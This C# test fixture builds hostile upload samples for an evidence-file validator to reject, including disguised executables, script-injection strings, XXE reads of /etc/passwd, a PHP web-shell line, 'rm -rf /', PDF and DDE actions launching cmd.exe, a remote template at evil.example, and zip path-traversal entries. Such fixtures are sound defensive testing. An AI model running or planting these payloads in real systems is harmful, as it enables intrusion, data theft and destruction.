using System.IO.Compression;
using System.Text;

namespace Milepost.Tests.Documents.Evidence;

/// <summary>Files that somebody who means harm, or knows no better, might give as evidence. None of them may be taken.</summary>
internal static class HostileEvidence
{
    private const string Rels = "http://schemas.openxmlformats.org/package/2006/relationships";
    private const string Office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    public static IEnumerable<(string What, string Name, byte[] Bytes)> All() =>
        Disguised().Concat(Texts()).Concat(Pdfs()).Concat(Offices()).Concat(Archives()).Concat(Pictured());

    private static byte[] Pdf(string more = "", string behind = "")
    {
        var plain = new MadePdf().Text(50, 50, "Audit of assessments").File();
        var text = Encoding.Latin1.GetString(plain);
        return Encoding.Latin1.GetBytes(text.Replace("/Type /Catalog", "/Type /Catalog " + more, StringComparison.Ordinal) + behind);
    }

    private static byte[] Docx(string body = "", params (string Name, string Text)[] more) => Made.Zip(Made.DocxParts(Made.P("Audit") + body).Concat(more));

    private static IEnumerable<(string, string, byte[])> Disguised()
    {
        var program = "MZ\u0090\0\u0003\0\0\0This program cannot be run in DOS mode."u8.ToArray();
        yield return ("a program called a PDF", "report.pdf", program);
        yield return ("a program called Word", "report.docx", program);
        yield return ("a program called text", "report.txt", program);
        yield return ("a program", "report.exe", program);
        yield return ("a Linux program", "report.pdf", [0x7F, .. "ELF\u0002\u0001\u0001"u8]);
        yield return ("a PDF with a program's ending before its own", "report.exe.pdf", Pdf());
        yield return ("a PDF with a script's ending before its own", "report.js.pdf", Pdf());
        yield return ("a PDF called Word", "report.docx", Pdf());
        yield return ("Word called PDF", "report.pdf", Docx());
        yield return ("Word called Excel", "report.xlsx", Docx());
        yield return ("Word called PowerPoint", "report.pptx", Docx());
        yield return ("Word without an ending", "report", Docx());
        yield return ("a picture called PDF", "report.pdf", Pictures.Png());
        yield return ("a picture called another", "report.jpg", Pictures.Png());
        yield return ("text called a picture", "report.png", "Only words"u8.ToArray());
        yield return ("nothing", "report.pdf", []);
        yield return ("an old Office file", "report.doc", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0]);
        yield return ("an old Office file called new", "report.docx", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0]);
        yield return ("a moving picture", "report.gif", "GIF89a"u8.ToArray());
        yield return ("an archive of another kind", "report.docx", [.. "Rar!\u001A\u0007"u8]);
    }

    private static IEnumerable<(string, string, byte[])> Texts()
    {
        yield return ("a web page called text", "report.txt", "<html><script>alert(1)</script></html>"u8.ToArray());
        yield return ("a web page called CSV", "report.csv", "a,b\n1,<script src=//x></script>"u8.ToArray());
        yield return ("a web page after blanks", "report.txt", "\n\n   <!DOCTYPE html><p>"u8.ToArray());
        yield return ("a drawing with a script", "report.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"u8.ToArray());
        yield return ("a drawing called text", "report.txt", "words <svg onload='alert(1)'/>"u8.ToArray());
        yield return ("XML with something from elsewhere", "report.txt", "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"u8.ToArray());
        yield return ("a script of the shell", "report.txt", "#!/bin/sh\nrm -rf /"u8.ToArray());
        yield return ("a script of a web server", "report.txt", "words <?php system($_GET['c']); ?>"u8.ToArray());
        yield return ("bytes called text", "report.txt", [1, 2, 3, 0, 255, 0, 0, 7]);
        yield return ("text with a NUL", "report.csv", "a,b\0,c"u8.ToArray());
        yield return ("rich text", "report.txt", "{\\rtf1\\ansi{\\object\\objdata 0105}}"u8.ToArray());
        yield return ("a message with a file in it", "report.txt", "Subject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed\n\n"u8.ToArray());
        yield return ("a PDF behind words", "report.txt", [.. "words\n"u8, .. Encoding.Latin1.GetBytes("%PDF-1.4\n1 0 obj")]);
    }

    private static IEnumerable<(string, string, byte[])> Pdfs()
    {
        const string Name = "report.pdf";
        yield return ("a PDF that does not end", Name, Pdf()[..200]);
        yield return ("a PDF with a script", Name, Pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"));
        yield return ("a PDF with a script whose name is hidden", Name, Pdf("/OpenAction << /S /J#61vaScript /JS (x) >>"));
        yield return ("a PDF that starts a program", Name, Pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"));
        yield return ("a PDF with a file in it", Name, Pdf("/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >>"));
        yield return ("a PDF with a form that is a program", Name, Pdf("/AcroForm << /XFA 9 0 R >>"));
        yield return ("a PDF with a form that sends itself", Name, Pdf("/AA << /O << /S /SubmitForm /F (http://x) >> >>"));
        yield return ("a PDF with a film", Name, Pdf("/Annots [<< /Subtype /RichMedia >>]"));
        yield return ("a protected PDF", Name, Pdf("/Encrypt 9 0 R"));
        yield return ("a PDF with a script in a packed object", Name, Packed("<< /S /JavaScript /JS (x) >>", "/FlateDecode"));
        yield return ("a PDF packed in an unusual way", Name, Packed("<< /S /Nothing >>", "[/ASCIIHexDecode /FlateDecode]"));
        yield return ("a PDF with an archive behind it", Name, [.. Pdf(), .. Made.Zip([("a.txt", "a")])]);
        yield return ("a PDF with a page behind it", Name, Pdf(behind: "<html><script>alert(1)</script>"));
        yield return ("a PDF that only begins so", Name, "%PDF-1.7\nnothing of the kind\n%%EOF"u8.ToArray());
    }

    private static byte[] Packed(string inside, string filter)
    {
        using var packed = new MemoryStream();
        using (var zip = new ZLibStream(packed, CompressionLevel.Fastest, leaveOpen: true)) zip.Write(Encoding.ASCII.GetBytes("1 0 " + inside));
        var plain = Encoding.Latin1.GetString(Pdf());
        var stream = $"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter {filter} /Length {packed.Length} >>\nstream\n{Encoding.Latin1.GetString(packed.ToArray())}\nendstream\nendobj\n";
        return Encoding.Latin1.GetBytes(plain.Replace("xref\n", stream + "xref\n", StringComparison.Ordinal));
    }

    private static IEnumerable<(string, string, byte[])> Offices()
    {
        const string Name = "report.docx";
        yield return ("Word with macros", "report.docm", Docx());
        yield return ("Word with macros, renamed", Name, Made.Zip(Made.DocxParts(Made.P("x")).Select(part => part.Name == "[Content_Types].xml" ? (part.Name, part.Text.Replace("wordprocessingml.document.main", "wordprocessingml.document.macroEnabled.main", StringComparison.Ordinal)) : part)));
        yield return ("Word with a macro's part", Name, Docx("", ("word/vbaProject.bin", "x")));
        yield return ("Word with a control", Name, Docx("", ("word/activeX/activeX1.xml", "<a/>")));
        yield return ("Word with an object of another program", Name, Docx("", ("word/embeddings/oleObject1.bin", "x")));
        yield return ("Word with a program inside", Name, Docx("", ("word/media/image1.exe", "MZ")));
        yield return ("Word with a picture from elsewhere", Name, Linked("image", "http://127.0.0.1:9/canary.png"));
        yield return ("Word with a template from elsewhere", Name, Linked("attachedTemplate", "https://evil.example/t.dotm"));
        yield return ("Word with an object from elsewhere", Name, Linked("oleObject", @"file:///\\evil\share\x"));
        yield return ("Word with a frame from elsewhere", Name, Linked("frame", "http://127.0.0.1:9/"));
        yield return ("Word with another kind of document inside", Name, Linked("aFChunk", "chunk.html", ""));
        yield return ("Word with an order to another program", Name, Docx("""<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:r></w:p>"""));
        yield return ("Word with a simple order", Name, Docx("""<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>"""));
        yield return ("Word with a document type", Name, Docx("", ("word/settings.xml", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>")));
        yield return ("Word with words that multiply", Name, Docx("", ("word/settings.xml", "<!DOCTYPE a [<!ENTITY b 'bbbbbbbbbb'><!ENTITY c '&b;&b;&b;&b;'>]><a>&c;</a>")));
        yield return ("Word with a part that is not whole", Name, Docx("", ("word/settings.xml", "<a><b></a>")));
    }

    private static byte[] Linked(string kind, string target, string mode = " TargetMode=\"External\"") =>
        Docx("", ("word/_rels/header1.xml.rels", $"<Relationships xmlns=\"{Rels}\"><Relationship Id=\"r9\" Type=\"{Office}/{kind}\" Target=\"{target}\"{mode}/></Relationships>"));

    private static IEnumerable<(string, string, byte[])> Archives()
    {
        const string Name = "report.docx";
        var whole = Docx();
        yield return ("a plain archive", Name, Made.Zip([("a.txt", "a")]));
        yield return ("an archive called one", "report.zip", Made.Zip([("a.txt", "a")]));
        yield return ("an archive with a way out", Name, Docx("", ("../../etc/cron.d/x", "x")));
        yield return ("an archive with another way out", Name, Docx("", (@"..\..\x", "x")));
        yield return ("an archive with a whole path", Name, Docx("", ("/etc/passwd", "x")));
        yield return ("an archive with one part twice", Name, Docx("", ("word/document.xml", "<a/>")));
        yield return ("an archive of too many parts", Name, Docx("", [.. Enumerable.Range(0, 2_100).Select(i => ($"word/a{i}.txt", ""))]));
        yield return ("an archive with a part without end", Name, Docx("", ("word/settings.xml", $"<a>{new string('b', 600_000)}</a>")));
        yield return ("an archive with a part too deep", Name, Docx("", ("word/settings.xml", string.Concat(Enumerable.Repeat("<a>", 400)) + string.Concat(Enumerable.Repeat("</a>", 400)))));
        yield return ("words before an archive", Name, [.. "words"u8, .. whole]);
        yield return ("words behind an archive", Name, [.. whole, .. "words"u8]);
        yield return ("half an archive", Name, whole[..(whole.Length / 2)]);
    }

    private static IEnumerable<(string, string, byte[])> Pictured()
    {
        yield return ("a picture that would fill the memory", "report.png", Pictures.Png(30_000, 30_000));
        yield return ("a photograph that would fill the memory", "report.jpg", Pictures.Jpeg(30_000, 30_000));
        yield return ("a picture that moves", "report.png", Pictures.Png(2, 2, ("acTL", new byte[8])));
        yield return ("a picture with an archive behind it", "report.png", [.. Pictures.Png(), .. Made.Zip([("a.txt", "a")])]);
        yield return ("a photograph with an archive behind it", "report.jpg", Pictures.Jpeg(behind: Made.Zip([("a.txt", "a")])));
        yield return ("a photograph with a script behind it", "report.jpg", Pictures.Jpeg(behind: "<script>alert(1)</script>"u8.ToArray()));
        yield return ("a picture that does not end", "report.png", Pictures.Png()[..50]);
        yield return ("a photograph that does not end", "report.jpg", Pictures.Jpeg()[..80]);
        yield return ("a picture with a damaged part", "report.png", [.. Pictures.Png()[..30], 0, .. Pictures.Png()[31..]]);
        yield return ("only the beginning of a photograph", "report.jpg", [0xFF, 0xD8, 0xFF, 0xD9]);
    }
}
